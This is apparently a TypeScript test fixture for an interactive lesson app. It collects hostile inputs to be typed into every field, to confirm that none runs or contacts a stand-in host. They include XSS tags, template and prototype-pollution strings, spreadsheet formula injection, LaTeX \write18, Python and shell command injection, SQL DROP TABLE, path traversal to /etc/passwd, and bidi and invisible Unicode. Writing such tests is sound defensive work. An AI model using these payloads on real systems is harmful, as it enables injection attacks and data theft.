// What somebody could type to break the lesson, or whoever opens what it exports: texts by what they try. Those that are
// programs set OWNED where they run, or ask ELSEWHERE; neither may ever happen.
import { defaultWishes } from '../web/src/state/defaults.js';
import { limits } from '../web/src/state/limits.js';
import { restoreWishes } from '../web/src/state/saved.js';
import type { CorpusLine, Sentences, Wishes } from '../web/src/state/state.js';

/** A name in the global scope that only a payload sets. */
export const OWNED = 'owned';
/** A server that nothing may ask. */
export const ELSEWHERE = 'https://attacker.invalid';

const act = `${OWNED}=1`;

/** Elements that run something by themselves, or fetch something. */
const elements = [
  `<script>${act}</script>`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<img src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${act}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${act}/>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${act}</script>"></iframe></foreignObject></svg>`,
  `<svg><a href="javascript:${act}"><text>press</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${act}">press</math>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<input autofocus onfocus=${act}>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src=${ELSEWHERE}/a.swf>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<link rel=stylesheet href=${ELSEWHERE}/a.css>`,
  `<style>@import "${ELSEWHERE}/a.css";</style>`,
  `<div style="background:url(${ELSEWHERE}/a.png)">`,
  `<form action=${ELSEWHERE}><button>press`,
  `<a href="javascript:${act}" id=document>press</a>`,
  `<template shadowrootmode=open><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${act}>">`,
  `<attention-lesson page></attention-lesson>`,
  `<attention-figure view=arcs onclick=${act}>`,
];

/** Ends of what the text may stand in, followed by an element. */
const ends = [
  '">',
  `'>`,
  '`>',
  '</textarea>',
  '</script>',
  '</style>',
  '</title>',
  '</svg>',
  '-->',
  ']]>',
  '?>',
  '}</script>',
].map((end) => `${end}<img src=x onerror=${act}>`);

/** Templates of other engines, of this one, and of JavaScript. */
const templates = [
  '{placeholder}',
  '{count}',
  '{word} {text} {error}',
  '{0}',
  '%s %d %n',
  `\${${act}}`,
  `{{${act}}}`,
  `{{constructor.constructor("${act}")()}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  `<?php ${act} ?>`,
  '<!--?lit$123$-->',
  '<?lit$123456789$>',
  'lit$123456789$',
  "$& $` $' $1 $$",
];

/** Names that every object has, or that make a promise of it. */
const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  'undefined',
  'null',
  'NaN',
  'Infinity',
  '-0',
  '1e999',
  'true',
  '__proto__[owned]=1',
  'constructor.prototype.owned',
];

/** Signs that turn text round: overrides, embeddings, isolates and marks, none of them ended. */
const directions = [0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x200e, 0x200f, 0x061c].map(
  (code) => `is ${String.fromCodePoint(code)}abc 123 שלום`,
);
const unended = [
  '\u202c\u2069\u2069 ended too often',
  '\u202eevil\u202c \u2066/* } */\u2069',
  'אבג \u202eabc\u202d דהו',
];

/** Characters that nobody sees, and those that are none. */
const unseen = [
  'zero\u200bwidth\u200cspace\u200djoiner\u2060word\ufeffmark',
  '\u00ad\u00adsoft\u00adhyphen',
  '\u200b',
  '\u2028line\u2028separator\u2029paragraph',
  'tag\u{e0041}\u{e0042}\u{e007f}',
  'variation\ufe0f\ufe0e\u{e0100}',
  '\u3164hangul\u115ffiller\u1160',
  '\u0085next\u000bline\u000c',
  'nul\0nul',
  '\u0001\u0002\u001b[31mred\u0007',
  '\u007f\u0080\u009f',
  '\ud800',
  'half \udfff',
  '\udc00\ud800 turned round',
  'a\ud83dz',
  '\uffff\ufffe\ufdd0\u{1fffe}',
  '\ufffd',
];

/** Many marks on one letter, many parts in one sign, and what changes its length when its case or form changes. */
const stacked = [
  `z${'\u0336\u0323\u0301'.repeat(30)}algo`,
  `${'\u0301'.repeat(100)}`,
  `${'👩‍'.repeat(20)}👩`,
  `🏴${'\u{e0067}'.repeat(20)}`,
  '🇦'.repeat(31),
  '\u1100'.repeat(40),
  '\ufdfa\ufdfa\ufdfa',
  'ŉ ǰ ΐ ﬃ ẞ İi ıI',
  'Å\u212b A\u030a',
  'ﷺ 𒐫 ⸻ ꧅',
];

/** Long ones: one word, many words, many signs. */
const long = [
  'x'.repeat(1000),
  'word '.repeat(127).trim(),
  'a'.repeat(100),
  'ab-'.repeat(40),
  '!'.repeat(120),
  'ﷺ'.repeat(60),
  '好'.repeat(100),
  `${'('.repeat(60)}${')'.repeat(60)}`,
];

/** What a spreadsheet would take for a formula. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("https://attacker.invalid","press")',
  `=cmd|'/C calc'!A0`,
  '=IMPORTXML("https://attacker.invalid","//a")',
  '=WEBSERVICE("https://attacker.invalid")',
  '\t=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  `'=1+1`,
  ',=1+1',
  ';=1+1',
  '\u200b=1+1',
  '%0A=1+1',
];

const latex = [
  '\\input{/etc/passwd}',
  '\\write18{touch owned}',
  '\\end{tabular}\\newpage',
  '\\def\\x{\\x}\\x',
  '\\csname par\\endcsname',
  '^^5cinput',
  '$x_1^2$ % & # ~ _',
  '\\\\[9cm] \\hline & & &',
  '\\catcode`\\$=13',
  '{ } } {',
];

const markdown = [
  `[press](javascript:${act})`,
  `![x](${ELSEWHERE}/a.png)`,
  '# head\n> quote',
  '| a | b |',
  '`code` ``` ```',
  '***bold*** ~~gone~~ ==marked==',
  `<${ELSEWHERE}/>`,
  `[x]: ${ELSEWHERE}`,
  '- [ ] @someone #1 :smile:',
  '&lt;script&gt; &#60; &amp;',
  '\\| \\` \\\\|',
  '$$\\href{javascript:1}{x}$$',
];

/** Ends of strings in Python, JSON and a shell. */
const programs = [
  `"); import os; os.system("touch ${OWNED}") #`,
  `'''); __import__("os").system("touch ${OWNED}") #`,
  '"""',
  `\\"); exit() #`,
  `\\`,
  `\\N{BULLET} \\x41 \\u0041`,
  'print(open("/etc/passwd").read())',
  `{"__proto__":{"${OWNED}":1}}`,
  `{"constructor":{"prototype":{"${OWNED}":1}}}`,
  `","preferred":"mongodb`,
  `"}],"beta":1e9,"x":[{"`,
  '\\u0022\\u003c',
  `'; DROP TABLE corpus; --`,
  `$(touch ${OWNED}) \`touch ${OWNED}\``,
  '../../../../etc/passwd',
  `];${act};//`,
];

const addresses = [
  `javascript:${act}`,
  `data:text/html,<script>parent.${act}</script>`,
  `${ELSEWHERE}/?q=#s=1.AAAA`,
  '//attacker.invalid/a.js',
  'blob:null/0',
  'file:///etc/passwd',
  'mailto:a@b.c?body=x',
  '#arcs',
  '?lang=xx&theme=pink',
  'https://xn--80ak6aa92e.com',
];

/** Counts of copies, as the corpus editor reads them. */
const counts = [
  'the cat × 0',
  'the cat × -1',
  'the cat × 1e9',
  'the cat x 5',
  'the cat\t5',
  '× 5 × 5 × 5',
  '×',
  'a × ∞',
];

const classes: Readonly<Record<string, readonly string[]>> = {
  elements,
  ends,
  templates,
  names,
  directions: [...directions, ...unended],
  unseen,
  stacked,
  long,
  formulas,
  latex,
  markdown,
  programs,
  addresses,
  counts,
};

export interface Payload {
  readonly kind: string;
  readonly text: string;
}

export const payloads: readonly Payload[] = Object.entries(classes).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);

/** All texts, so many at once. */
export const inBatches = (size: number): readonly (readonly string[])[] =>
  Array.from({ length: Math.ceil(payloads.length / size) }, (_, i) =>
    payloads.slice(i * size, (i + 1) * size).map(({ text }) => text),
  );

/** Ends of lines are no part of a sentence. */
export const sentence = (text: string): string => text.replace(/[\r\n]+/g, ' ');

export const lines = (texts: readonly string[]): readonly CorpusLine[] =>
  texts.map((text, i) => ({ text: `it is ${sentence(text)}`, copies: i + 1 }));

/** These texts wherever a learner may type, as a link or a host would say so. */
export function everywhere(texts: readonly string[]): Wishes {
  const nth = (i: number): string => sentence(texts[i % texts.length]!);
  const short = texts.map((text) => text.slice(0, limits.wordLength));
  const names = Object.keys(defaultWishes.sentences) as (keyof Sentences)[];
  const set: Partial<Wishes> = {
    corpus: lines(texts),
    text: nth(0),
    preferred: short[0]!,
    opened: short[0]!,
    conjured: short.at(-1)!,
    rewards: Object.fromEntries(short.slice(0, limits.rewards).map((word, i) => [word, i])),
    sentences: Object.fromEntries(names.map((name, i) => [name, nth(i)])) as unknown as Sentences,
    shots: [{ text: nth(1), label: short[0]! }],
    shotQuestion: nth(2),
    documents: texts.slice(0, limits.documents).map(sentence),
    question: nth(3),
  };
  return restoreWishes(JSON.stringify(set)).wishes;
}
